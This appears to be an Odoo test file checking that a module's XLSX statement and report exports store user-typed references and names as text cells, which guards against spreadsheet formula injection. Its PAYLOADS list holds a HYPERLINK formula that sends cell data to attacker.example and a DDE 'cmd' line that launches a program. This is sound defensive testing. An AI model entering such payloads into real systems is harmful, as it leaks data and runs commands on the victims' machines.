import io
import zipfile
from datetime import date

import openpyxl
from freezegun import freeze_time

from odoo.tests import HttpCase, tagged

from .common import OrderDeskCase
from .test_statement import StatementCase

# What a clerk, a customer or a carrier may type into a reference or a name, meant to run
# in the spreadsheet of whoever opens the desk's exports.
PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?leak="&B2,"Click")',
    "=1+2",
    "=cmd|' /C calc'!A0",
    "http://attacker.example/",
)


class XlsxTextMixin:
    def _assert_text_only(self, content, expected):
        """No cell of the workbook ``content`` is a formula or a link, and each text of
        ``expected`` is in a text cell, as typed."""
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                    xml = archive.read(name).decode()
                    self.assertNotIn("<f>", xml, name)
                    self.assertNotIn("<hyperlink", xml, name)
        book = openpyxl.load_workbook(io.BytesIO(content))
        found = {}
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str):
                        found.setdefault(cell.value, cell.data_type)
        for text in expected:
            with self.subTest(text=text):
                self.assertIn(text, found)
                self.assertEqual(found[text], "s")


@tagged("post_install", "-at_install")
class TestStatementXlsxText(XlsxTextMixin, HttpCase, StatementCase):
    """The statements' XLSX export writes references and names as text, never as
    formulas (issue 10, finding 16)."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.customer = cls._customer(PAYLOADS[1])
        for index, payload in enumerate(PAYLOADS):
            move = cls.env["account.move"].create(
                {
                    "move_type": "out_invoice",
                    "partner_id": cls.customer.id,
                    "invoice_date": f"2026-10-0{index + 1}",
                    "date": f"2026-10-0{index + 1}",
                    "ref": payload,
                    "invoice_line_ids": [
                        (0, 0, {"name": "Goods", "quantity": 1, "price_unit": 10.0})
                    ],
                }
            )
            move.action_post()

    def test_statement_workbooks_over_http(self):
        statement = self._generate(date(2026, 10, 1), date(2026, 10, 31), self.customer)
        self.assertEqual(sorted(statement.line_ids.mapped("ref")), sorted(PAYLOADS))
        self.authenticate(self.accountant.login, self.accountant.login)
        for layout, expected in (
            ("sheets", PAYLOADS),
            ("summary", (PAYLOADS[1],)),
        ):
            with self.subTest(layout=layout):
                response = self.url_open(
                    f"/order_desk/statements/xlsx?ids={statement.id}&layout={layout}"
                )
                self.assertEqual(response.status_code, 200)
                self._assert_text_only(response.content, expected)


@tagged("post_install", "-at_install")
class TestKpiXlsxText(XlsxTextMixin, OrderDeskCase):
    """The monthly desk report's XLSX writes customers, rules and reasons as text."""

    def test_monthly_workbook_text(self):
        self.company.partner_id.tz = "UTC"
        rule = self._rule("payment_term", name=PAYLOADS[0])
        customer = self.customer.copy({"name": PAYLOADS[2]})
        with freeze_time("2024-03-05 09:00:00"):
            order = self._order(partner=customer, payment_term_id=False)
            order.with_user(self.clerk).action_desk_submit()
        self.assertEqual(order.desk_exception_ids.rule_id, rule)
        self.env.flush_all()
        wizard = (
            self.env["order.desk.kpi.report.wizard"]
            .with_user(self.manager)
            .create({"year": 2024, "month": "3", "company_id": self.company.id})
        )
        self._assert_text_only(wizard._desk_xlsx(), (PAYLOADS[0], PAYLOADS[2]))
